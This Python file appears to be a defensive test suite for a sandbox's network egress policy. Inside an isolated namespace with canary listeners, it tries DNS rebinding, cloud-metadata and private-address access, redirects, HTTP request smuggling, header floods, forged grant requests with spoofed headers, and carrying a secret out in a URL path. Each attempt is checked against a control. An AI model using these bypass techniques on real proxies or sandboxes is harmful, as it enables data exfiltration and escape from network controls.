"""Reaches for hosts outside past the egress policy, with a canary that hears what arrives.

The program runs itself again in a network of its own: public addresses on its loopback, a
name server, and a canary at every address that records each connection and byte. In it a
choir of its own runs under a narrow policy, and then under an open one for the controls.
"""
import sys; sys.path.insert(0, sys.path[0] + "/..")
import os

if "CANARY_WORLD" not in os.environ:
    os.environ["CANARY_WORLD"] = "1"
    os.execvp("unshare", ["unshare", "--net", "--mount", sys.executable, *sys.argv])

import lib
from lib import *
import base64, shutil, signal, tempfile, tricks
from canary import Canary

GOOD, VICTIM = "11.22.33.55", "11.22.33.44"
METADATA, PRIVATE = "169.254.169.254", "10.1.2.3"
OWN, NEIGHBOUR = "11.22.44.1", "11.22.44.9"  # a public address of this machine, and another one of its network
canary = Canary([GOOD, VICTIM, METADATA, PRIVATE], {
    "own.test": [OWN], "neighbour.test": [NEIGHBOUR],
    "good.test": [GOOD], "victim.test": [VICTIM], "x.victim.test": [VICTIM], "good.test.victim.test": [VICTIM], "evilgood.test": [VICTIM],
    "xn--gd-rmcc.test": [VICTIM], "rebind.test": [GOOD, "127.0.0.1"], "twice.test": [GOOD + "," + PRIVATE], "loop.test": ["127.0.0.1"],
    "cloud.test": [METADATA], "private.test": [PRIVATE], "zero.test": ["0.0.0.0"],
}, [OWN + "/24"])

# What the sandbox sends, one raw request after the other, each over a connection of its own.
SENDER = r'''
import base64, json, os, socket, sys
host, port = os.environ["http_proxy"].split("//")[1].split(":")
for c in json.loads(base64.b64decode(sys.argv[1])):
    s = socket.create_connection((host, int(port))); s.settimeout(20)
    said = b""
    try:
        s.sendall(base64.b64decode(c["raw"]))
        if c["then"]:
            while b"\r\n\r\n" not in said:
                more = s.recv(4096)
                if not more: break
                said += more
            if b" 200 " in said.split(b"\r\n")[0]: s.sendall(base64.b64decode(c["then"]))
            s.shutdown(socket.SHUT_WR)
        while True:
            more = s.recv(65536)
            if not more: break
            said += more
            s.settimeout(1)  # a connection that is kept open says no more
    except OSError as e:
        said += repr(e).encode()
    s.close()
    print(c["id"], said[:60].split(b"\r\n")[0].decode("latin1"))
'''

# One header without end, and headers without end.
FLOOD = r"""
import os, socket
host, port = os.environ["http_proxy"].split("//")[1].split(":")
for piece in (b"a" * 1000, b"X: " + b"a" * 995 + b"\r\n"):
    s = socket.create_connection((host, int(port))); s.settimeout(20)
    sent = 0
    try:
        s.sendall(b"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n" + piece[:3].replace(b"aaa", b"X: "))
        while sent < 64 << 20:
            s.sendall(piece * 64); sent += len(piece) * 64
        print("TOOK", sent)
    except OSError as e:
        print("cut", sent, e)
"""


def send(cases):
    """Sends cases of (id, raw bytes, bytes for an open tunnel) as one task; returns what each was answered."""
    plan = json.dumps([{"id": i, "raw": base64.b64encode(r).decode(), "then": base64.b64encode(t).decode()} for i, r, t in cases])
    result, out = sandbox("", argv=["python3", "-c", SENDER, base64.b64encode(plan.encode()).decode()])
    said = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
    return {i: said.get(i, "nothing: " + out[-200:]) for i, _, _ in cases}


def policy(*hosts, mode="allowlist"):
    """Writes the policy; a choir that runs puts it in force."""
    text = lib.SETTINGS + "\n[listen]\naddress = '127.0.0.1:0'\n[egress]\nmode = '%s'\n" % mode
    for h in hosts:
        name, _, port = h.rpartition(":")
        text += "[[egress.allowlist]]\nhost = '%s'\nport = %s\n" % (name, port)
    with open(lib.DATA + "/choir.toml", "w") as f:
        f.write(text)


def reload(*hosts, mode="allowlist"):
    policy(*hosts, mode=mode)
    p = choir("egress", "reload")
    assert p.returncode == 0, p.stderr


def events(kind):
    """Returns the payloads of all events of a type."""
    return [e["payload"] for e in (json.loads(l) for l in choir("log", "--json", timeout=60).stdout.splitlines()) if e["type"] == kind]


NARROW = ["good.test:80", "good.test:22", "good.test:443", "rebind.test:22", "twice.test:22", "loop.test:22", "loop.test:80", "cloud.test:80", "private.test:22", "zero.test:22", "own.test:22", "neighbour.test:22"]
OPEN = NARROW + ["*.victim.test:80", "*.victim.test:22", "victim.test:80", "victim.test:22", "victim.test:443", "evilgood.test:80",
                 "xn--gd-rmcc.test:80", VICTIM + ":80", VICTIM + ":22"]


def readings():
    """Sends each trick under the narrow policy, and its control under the open one."""
    cases = tricks.readings(VICTIM)
    said = send([(c.id, c.raw, c.then) for c in cases])
    heard = canary.heard()
    for c in cases:
        got = [h for h in heard if c.id.encode() in h.data]
        attack(c.promise, any(h.address != GOOD for h in got) or c.forbids and got, f"{c.name}: {said[c.id]}")
    attack("nothing but the policy's host", any(h.address != GOOD for h in heard), [h for h in heard if h.address != GOOD])
    reload(*OPEN)
    send([(c.id, c.control, c.then) for c in cases])
    heard = canary.heard()
    for c in cases:
        control(c.promise, any(c.id.encode() in h.data for h in heard), f"{c.name}: it did not arrive")
    control("nothing but the policy's host", any(h.address == VICTIM for h in heard))
    reload(*NARROW)


def addresses():
    """Has names of the policy lead inside, always, sometimes, and beside a public address."""
    inside = {METADATA, PRIVATE, "127.0.0.1", OWN, NEIGHBOUR}
    cases = [(f"inside{i:03d}", tricks.connect(h), b"inside%03d\r\n" % i) for i, h in enumerate(
        ["loop.test:22", "private.test:22", "zero.test:22", "twice.test:22", "own.test:22", "neighbour.test:22"] + ["rebind.test:22"] * 8)]
    cases += [(f"inside{50 + i:03d}", tricks.get(f"http://{h}/inside{50 + i:03d}"), b"") for i, h in enumerate(["cloud.test", "loop.test"])]
    said = send(cases)
    heard = canary.heard()
    for i, _, _ in cases:
        attack("names that lead inside", any(h.address in inside for h in heard), said[i])
    direct = [(a, socket.create_connection((a, 22), 5)) for a in inside]
    for _, s in direct:
        s.sendall(b"direct\r\n"); s.close()
    heard_direct = canary.heard(len(direct))
    control("names that lead inside", {h.address for h in heard_direct} == inside and any(h.address == GOOD for h in heard), heard_direct)


def redirects():
    """Lets curl follow redirects of an allowed host, over three steps."""
    run = "curl -sSL --max-time 20 http://good.test/redirect/2/redirected; true"
    sandbox(run)
    attack("a redirect to another host", any(h.address == VICTIM for h in canary.heard()))
    reload(*OPEN)
    sandbox(run)
    control("a redirect to another host", any(h.address == VICTIM and b"redirected" in h.data for h in canary.heard()))
    reload(*NARROW)


def smuggling():
    """Hides a request in another one's body, and the host that is meant in a header."""
    cases = tricks.smuggling()
    said = send([(i, raw, b"") for i, _, raw in cases])
    heard = canary.heard()
    for i, name, _ in cases:
        got = [h for h in heard if i.encode() in h.data]
        broken = any(r.path.startswith("/smuggled") or r.host not in ("good.test", None) for h in got for r in h.requests)
        attack("one request is one request", broken, f"{name}: {said[i]}")
    host = socket.create_connection((GOOD, 80))
    host.sendall(b"GET /direct HTTP/1.1\r\nHost: good.test\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
    while host.recv(4096):
        pass
    control("one request is one request", any(r.path == "/smuggled" and r.host == "other.test" for h in canary.heard(1) for r in h.requests))


def floods():
    """Sends headers without end; afterwards an honest request must get through."""
    _, out = sandbox("", argv=["python3", "-c", FLOOD])
    for line in (out.splitlines() + ["nothing", "nothing"])[:2]:
        attack("a flood of headers", not line.startswith("cut"), line)
    attack("a flood of headers", bool(canary.heard()), "it arrived")
    said = send([("after001", tricks.get("http://good.test/after001"), b"")])
    control("a flood of headers", any(b"after001" in h.data for h in canary.heard()), said)


def grants():
    """Uses grants that have ended, those of others, and approvals that the sandbox writes itself."""
    ask = ("asked001", tricks.get("http://victim.test/asked001"), b"")

    def arrives():
        send([ask])
        return any(h.address == VICTIM for h in canary.heard())

    def grant(*args):
        p = choir("egress", "grant", "victim.test:80", *args)
        assert p.returncode == 0, p.stderr

    attack("a grant that was not given", arrives())
    grant("--for", "always")
    control("a grant that was not given", arrives())
    control("a grant that was revoked", arrives())
    choir("egress", "revoke", "victim.test:80")
    attack("a grant that was revoked", arrives())
    grant("--for", "always", "--expires", "8s")
    control("a grant that expired", arrives())
    eventually(lambda: not json.loads(choir("egress", "--json").stdout).get("grants"), 30)
    attack("a grant that expired", arrives())
    # A task that waits until it is let out, and another one that starts when it has been.
    waits = "until curl -sf --max-time 5 http://victim.test/waited001 >/dev/null; do sleep 0.2; done"
    task = {"version": 1, "kind": "run", "instruction": "wait", "commands": [{"shell": waits}], "time_budget_s": 60, "verify_profile": {"mode": "none"}}
    p = subprocess.Popen([CHOIR, "task", "-", "--json", "--data", lib.DATA], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    p.stdin.write(json.dumps(task).encode()); p.stdin.close()
    given = eventually(lambda: choir("egress", "grant", "victim.test:80", "--for", "task").returncode == 0, 30, 0.3)
    p.wait(60)
    control("a grant of another task", given and any(b"waited001" in h.data for h in canary.heard()))
    attack("a grant of another task", arrives())
    forged()


def forged():
    """Asks the doors of the sandbox for a grant in the owner's name."""
    path, body = f"{base()}/egress/grants", json.dumps({"host": "victim.test", "port": 80, "scope": "always"})
    origin = choir_origin.encode()
    post = lambda target: (f"POST {target} HTTP/1.1\r\nHost: choir\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
                           f"X-Forwarded-For: 127.0.0.1\r\nAuthorization: Bearer owner\r\nX-Choir-Role: cli\r\nConnection: close\r\n\r\n{body}").encode()
    cases = [("forged001", post(path), b""), ("forged002", post(f"http://{origin.decode()}{path}"), b""), ("forged003", b"CONNECT " + origin + b" HTTP/1.1\r\nHost: x\r\n\r\n", post(path)),
             ("forged004", post("/choir/v1" + path), b"")]
    said = send(cases)
    granted = lambda: json.loads(choir("egress", "--json").stdout).get("grants") or []
    for i, _, _ in cases:
        attack("an approval that the sandbox writes", " 2" in said[i][:14] or bool(granted()), said[i])
    status, answer = api("POST", path, json.loads(body))
    control("an approval that the sandbox writes", status < 300 and len(granted()) == 1, answer)
    choir("egress", "revoke", "victim.test:80")


def carried():
    """Carries a secret out in the path of an allowed host: it arrives, and is in the log, byte for byte."""
    secret = b"carried001" + base64.urlsafe_b64encode(os.urandom(300)).rstrip(b"=")
    send([("carried001", tricks.get("http://good.test/" + secret.decode()), b"")])
    heard = [h for h in canary.heard() if secret in h.data]
    control("what leaves for an allowed host is told", len(heard) == 1)
    told = [e for e in events("egress.passed") if secret.decode() in e.get("path", "")]
    attack("what leaves for an allowed host is told", len(told) != 1 or told[0]["sent"] < len(heard[0].data), told)


# A program that knows no proxy: it looks a name up as it is, and connects to what it gets.
BARE = r"""
import os, socket, sys
for i, to in enumerate(sys.argv[1:]):
    host, port = to.rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), 20)
        s.sendall(b"bare%03d\r\n" % i); s.shutdown(socket.SHUT_WR); s.recv(100)
        print("sent", to)
    except OSError as e:
        print("refused", to, e)
"""


def names():
    """Looks names up in the sandbox and connects, without a proxy."""
    wanted = ["victim.test:22", "VICTIM.test.:22", "x.victim.test:22", "good.test:25", "10.1.2.3:22", "11.22.33.44:22", "loop.test:22", "private.test:22", "victim.test.good.test:22", "127.0.16.1:22"]
    _, out = sandbox("", argv=["python3", "-c", BARE, *wanted])
    heard = canary.heard()
    for to in wanted:
        attack("names without a proxy", any(h.address != GOOD or h.port == 25 for h in heard), to)
    reload(*OPEN)
    _, out = sandbox("", argv=["python3", "-c", BARE, "victim.test:22", "good.test:22"])
    heard = canary.heard()
    control("names without a proxy", {h.address for h in heard if b"bare00" in h.data} == {VICTIM, GOOD}, out)
    reload(*NARROW)


def all_modes():
    """Sends an honest request under mode none."""
    reload(mode="none")
    send([("none0001", tricks.get("http://good.test/none0001"), b""), ("none0002", tricks.connect("good.test:22"), b"none0002")])
    attack("mode none", bool(canary.heard()))
    reload(*NARROW)
    send([("none0001", tricks.get("http://good.test/none0001"), b"")])
    control("mode none", any(b"none0001" in h.data for h in canary.heard()))


lib.DATA = tempfile.mkdtemp(prefix="choir-egress-", dir="/var/tmp")
os.chmod(lib.DATA, 0o711)
policy(*NARROW)
up = subprocess.Popen([CHOIR, "up", "--json", "--data", lib.DATA], stdout=subprocess.PIPE)
try:
    choir_origin = json.loads(up.stdout.readline())["address"].removeprefix("http://")
    for part in (readings, addresses, redirects, smuggling, floods, grants, carried, names, all_modes):
        part()
finally:
    up.send_signal(signal.SIGTERM)
    up.wait(60)
    shutil.rmtree(lib.DATA, ignore_errors=True)
